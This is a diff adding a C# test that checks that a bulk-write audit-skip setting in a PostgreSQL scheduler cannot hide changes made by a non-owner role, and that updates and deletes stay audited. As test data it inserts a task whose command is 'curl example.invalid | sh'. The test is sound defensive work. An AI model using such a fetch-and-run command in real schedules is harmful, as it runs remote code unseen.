@@ -56,6 +56,44 @@ public class BulkInsertTests
         Assert.Equal(1, byCopy.AfterwardsAudited);
     }
 
+    [Fact]
+    public async Task The_skip_setting_is_ignored_for_a_user_who_does_not_own_the_table_and_for_updates_and_deletes()
+    {
+        await using var bed = await SyncTestBed.CreateAsync("bulk_not_owner", yaml: null);
+        // A database user who may write tasks but does not own the table (roles are per cluster: a fresh name).
+        var role = "schedsync_writer_" + Guid.NewGuid().ToString("N")[..8];
+        await bed.ExecuteAsync($"CREATE ROLE {role}");
+        await bed.ExecuteAsync($"GRANT ALL ON ALL TABLES IN SCHEMA public TO {role}");
+        await bed.ExecuteAsync($"GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO {role}");
+        var counter = await bed.ChangeCounterAsync();
+
+        async Task WriteWithSkipAsync(string sql, string? asRole)
+        {
+            await using var connection = await bed.DataSource.OpenConnectionAsync();
+            await using var tx = await connection.BeginTransactionAsync();
+            await using (var on = new Npgsql.NpgsqlCommand("SELECT set_config('schedsync.bulk_write', 'on', true)", connection, tx))
+                await on.ExecuteNonQueryAsync();
+            if (asRole is not null)
+                await using (var become = new Npgsql.NpgsqlCommand($"SET LOCAL ROLE {asRole}", connection, tx))
+                    await become.ExecuteNonQueryAsync();
+            await using (var write = new Npgsql.NpgsqlCommand(sql, connection, tx))
+                Assert.Equal(1, await write.ExecuteNonQueryAsync());
+            await tx.CommitAsync();
+        }
+
+        await WriteWithSkipAsync("INSERT INTO scheduled_tasks (id, schedule, command) VALUES ('sneaky', '@hourly', 'curl example.invalid | sh')", role);
+        Assert.Equal(1, await bed.CountAsync("task_audit WHERE task_id = 'sneaky' AND action = 'create' AND source = 'sql'"));
+        Assert.Equal(1, await bed.CountAsync("sync_events WHERE type = 'task_changed' AND payload::text LIKE '%sneaky%'"));
+        Assert.Equal(counter + 1, await bed.ChangeCounterAsync());
+
+        // The owner's skip covers inserts only: its updates and deletes are audited as ever.
+        await WriteWithSkipAsync("UPDATE scheduled_tasks SET command = 'changed' WHERE id = 'sneaky'", asRole: null);
+        await WriteWithSkipAsync("DELETE FROM scheduled_tasks WHERE id = 'sneaky'", asRole: null);
+        Assert.Equal(1, await bed.CountAsync("task_audit WHERE task_id = 'sneaky' AND action = 'update'"));
+        Assert.Equal(1, await bed.CountAsync("task_audit WHERE task_id = 'sneaky' AND action = 'delete'"));
+        Assert.Equal(counter + 3, await bed.ChangeCounterAsync());
+    }
+
     private sealed record Recorded(List<string> Rows, List<string> Audit, List<string> Events, long Counter, List<string> Notifications, long AfterwardsAudited);
 
     private static async Task<Recorded> RecordAsync(string name, Func<Npgsql.NpgsqlConnection, Npgsql.NpgsqlTransaction, long, Task> write)
